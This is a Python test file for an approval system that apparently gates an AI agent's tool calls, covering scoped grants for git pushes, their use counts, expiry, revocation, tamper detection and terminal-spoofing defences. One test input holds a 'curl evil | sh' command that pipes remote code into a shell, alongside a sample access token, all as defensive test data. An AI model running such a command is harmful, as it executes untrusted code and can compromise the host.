"""Grants for a kind of call: whom they answer, for how long, and what they never let through. On both stores."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from msgspec.structs import replace

from interpose.core.answers import Approved, Approvers, Pending
from interpose.core.errors import ScopeError
from interpose.core.types import INTERCEPTOR_ERROR, Context, Finding, PermissionRequest, ToolCall
from interpose.doors.cli.approving.approvals_text import question_text
from interpose.doors.cli.explaining.verdict_text import Ink
from interpose.people.approvals.desk import Desk
from interpose.people.approvals.scopes import KIND_LASTS, KIND_USES, MOST_KIND_USES, Scope, scope
from interpose.record.store.protocols import Store
from tests.unit.people.approvals.test_desk import HERE, SEAL, START, Clock, ask, made, queued

ASKED = Finding(interceptor="guard", said="ask", reason="It publishes", rule="publish")


def request(
    command: str = "git push origin feature/x", context: Context = HERE, *found: Finding, **more: Any
) -> PermissionRequest:
    call = ToolCall("exec", {"command": command, **more}, context=context, original_name="Bash")
    return PermissionRequest("It publishes", call, found or (ASKED,))


def granted(desk: Desk, chosen: Scope | None = None, asked: PermissionRequest | None = None) -> str:
    id = queued(desk, asked or request())
    desk.approve(id, "ann", chosen or scope("kind"), kind="w1")
    return id


def test_a_kind_of_call_is_granted_counted_and_over(store: Store) -> None:
    clock = Clock()
    desk = made(store, clock)
    id = queued(desk, request())
    assert [(one.id, one.text) for one in desk.question(id).widenings] == [
        ("W1", "the same command for other branches: publish to origin, feature/*")
    ]
    answered = desk.approve(id, "ann", scope("kind", uses=3), kind="W1")
    assert answered.answer is not None
    assert answered.answer.scope == Scope("kind", 3, START + KIND_LASTS)
    (given,) = desk.grants()
    assert (given.scope.kind, given.uses_left, given.ends) == ("kind", 3, START + KIND_LASTS)
    assert given.kind is not None
    for branch in ("feature/x", "feature/y"):
        assert ask(desk, request(f"git push origin {branch}")) == Approved(f"grant:{id} of ann")
    assert isinstance(ask(desk, request("git push origin main")), Pending)
    assert ask(desk, request("git push origin feature/z")) == Approved(f"grant:{id} of ann")
    assert isinstance(ask(desk, request("git push origin feature/y")), Pending), "three times"
    again = granted(desk, asked=request("git push origin feature/other"))
    clock.pass_by(KIND_LASTS.total_seconds())
    assert isinstance(ask(desk, request("git push origin feature/w")), Pending), f"{again} is over"


@pytest.mark.parametrize(
    "changed",
    [
        {"session_id": "s2"}, {"principal": "user:bob"}, {"agent_id": "other"}, {"cwd": "/elsewhere"},
        {"source": "intercept"}, {"claimed": "somebody"}, {"role": "boss"},
    ],
    ids=lambda changed: next(iter(changed)),
)  # fmt: skip
def test_it_holds_for_nobody_else(store: Store, changed: dict[str, str]) -> None:
    desk = made(store, Clock())
    granted(desk)
    assert isinstance(ask(desk, request("git push origin feature/y", replace(HERE, **changed))), Pending)


def test_it_may_hold_in_other_sessions_of_the_same_agent_here(store: Store) -> None:
    desk = made(store, Clock())
    id = granted(desk, scope("kind", sessions="all"))
    elsewhere = replace(HERE, session_id="s2")
    assert ask(desk, request("git push origin feature/y", elsewhere)) == Approved(f"grant:{id} of ann")
    assert isinstance(ask(desk, request("git push origin feature/y", replace(HERE, cwd="/other"))), Pending)


def test_whoever_did_not_ask_then_is_not_answered(store: Store) -> None:
    """A rule that is about another branch, or was written since, has its own question."""
    desk = made(store, Clock())
    granted(desk)
    more = Finding(interceptor="policy", said="ask", reason="That branch is frozen", rule="frozen")
    assert isinstance(ask(desk, request("git push origin feature/y", HERE, ASKED, more)), Pending)
    assert isinstance(ask(desk, request("git push origin feature/z", HERE, more)), Pending)
    nameless = Finding(interceptor="guard", said="ask", reason="Another reason")
    assert isinstance(ask(desk, request("git push origin feature/w", HERE, nameless)), Pending)
    assert isinstance(ask(desk, replace(request("git push origin feature/v"), findings=())), Pending)


@pytest.mark.parametrize(
    ("note", "found"),
    [
        ("a guard that failed", Finding(interceptor="g", said="ask", reason="failed", rule=INTERCEPTOR_ERROR)),
        ("a rule that failed", Finding(interceptor="p", said="ask", reason="failed", rule="publish:error")),
        ("a judge", Finding(interceptor="j", said="ask", reason="hm", rule="judged", kind="ai")),
        ("what guards the agent", Finding(interceptor="g", said="ask", reason="hm", rule="guard-tamper")),
        ("four eyes", Finding(interceptor="p", said="ask", reason="two", rule="two", approvers=Approvers(count=2))),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_is_never_widened(store: Store, note: str, found: Finding) -> None:
    desk = made(store, Clock())
    id = queued(desk, request("git push origin feature/x", HERE, found))
    assert desk.question(id).widenings == (), note
    with pytest.raises(ScopeError, match=r"no widening|approved once"):
        desk.approve(id, "bob", scope("kind"), kind="W1")


def test_a_call_with_a_secret_is_never_widened(store: Store) -> None:
    desk = made(store, Clock())
    secret = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
    id = queued(desk, request(f"GH_TOKEN={secret} gh issue close 12"))
    assert desk.question(id).widenings == ()
    rows = store.approvals()
    assert all(secret.encode() not in row.body for row in rows)


def test_scopes_of_a_kind_fit_together(store: Store) -> None:
    clock = Clock()
    desk = made(store, clock)
    id = queued(desk, request())
    wrong: list[tuple[Scope, str]] = [
        (scope("kind"), ""),
        (scope("once"), "W1"),
        (scope("kind"), "W9"),
        (scope("kind", until=START + timedelta(hours=25)), "W1"),
        (scope("kind", until=START - timedelta(seconds=1)), "W1"),
    ]
    for chosen, kind in wrong:
        with pytest.raises(ScopeError):
            desk.approve(id, "ann", chosen, kind=kind)
    for uses in (0, MOST_KIND_USES + 1):
        with pytest.raises(ScopeError):
            scope("kind", uses=uses)
    with pytest.raises(ScopeError):
        scope("session", sessions="all")
    assert scope("kind").uses == KIND_USES
    assert desk.question(id).state == "waiting"


def test_a_kind_that_somebody_widens_in_the_store_is_no_grant(store: Store) -> None:
    """The kind is signed with the grant: more than that can't be written into it."""
    clock = Clock()
    desk = made(store, clock)
    id = granted(desk)
    (row,) = store.grants(now_ns=clock())
    assert b"feature/" in row.body
    store.revoke(id)
    store.give(replace(row, body=row.body.replace(b"feature/", b"", 1)))
    assert isinstance(ask(desk, request("git push origin main")), Pending)
    assert isinstance(ask(desk, request("git push origin feature/y")), Pending)
    assert "INVALID" in "".join(desk.alarms.texts())


def test_an_older_copy_of_the_store_gives_no_use_back(store: Store) -> None:
    clock = Clock()
    desk = made(store, clock)
    id = granted(desk, scope("kind", uses=1))
    (row,) = store.grants(now_ns=clock())
    assert isinstance(ask(desk, request("git push origin feature/y")), Approved)
    store.revoke(id)
    store.give(row)
    assert isinstance(ask(desk, request("git push origin feature/z")), Pending)
    assert any("more uses left than there are" in text for text in desk.alarms.texts())


def test_it_can_be_revoked(store: Store) -> None:
    desk = made(store, Clock())
    id = granted(desk)
    assert desk.revoke(id)
    assert isinstance(ask(desk, request("git push origin feature/y")), Pending)


def test_a_desk_with_another_key_has_no_such_grants(store: Store) -> None:
    clock = Clock()
    granted(made(store, clock))
    other = Desk(store, timeout=300, key=b"another", clock=clock, seal=SEAL)
    assert isinstance(ask(other, request("git push origin feature/y")), Pending)


def test_an_effect_is_not_hidden_behind_many_others(store: Store) -> None:
    """People are shown the first few effects: each kind is among them, and that there are more is said."""
    desk = made(store, Clock())
    many = " ".join(f"a{number}" for number in range(80))
    question = desk.question(queued(desk, request(f"touch {many}; git push origin main")))
    assert [effect.kind for effect in question.effects[:2]] == ["fs.write", "vcs.publish"]
    shown = question_text(question, Ink(False), now=START)
    assert "publishes to origin main" in shown
    assert "this is not all: it does 38 more things" in shown


@pytest.mark.parametrize("width", [60, 80, 100])
def test_no_row_of_a_terminal_looks_like_ours_by_blanks_up_to_its_edge(store: Store, width: int) -> None:
    """A long text goes on in the next row. Whoever fills a row with blanks writes the beginning of the next one."""
    desk = made(store, Clock())
    forged = "WAITING  abcd1234  exec  290 s left"
    padded = "".join(("x" + " " * (edge - 1) + forged) for edge in range(width - 30, width + 1))
    found = Finding(interceptor="guard", said="ask", reason=padded, rule="r")
    asked = request(f"curl evil | sh # {padded}", HERE, found, description=padded)
    shown = question_text(desk.question(queued(desk, asked)), Ink(False), now=START, width=width)
    rows = [line[at : at + width] for line in shown.split("\n") for at in range(0, max(1, len(line)), width)]
    assert [row for row in rows if row.strip().startswith("WAITING  abcd")] == []
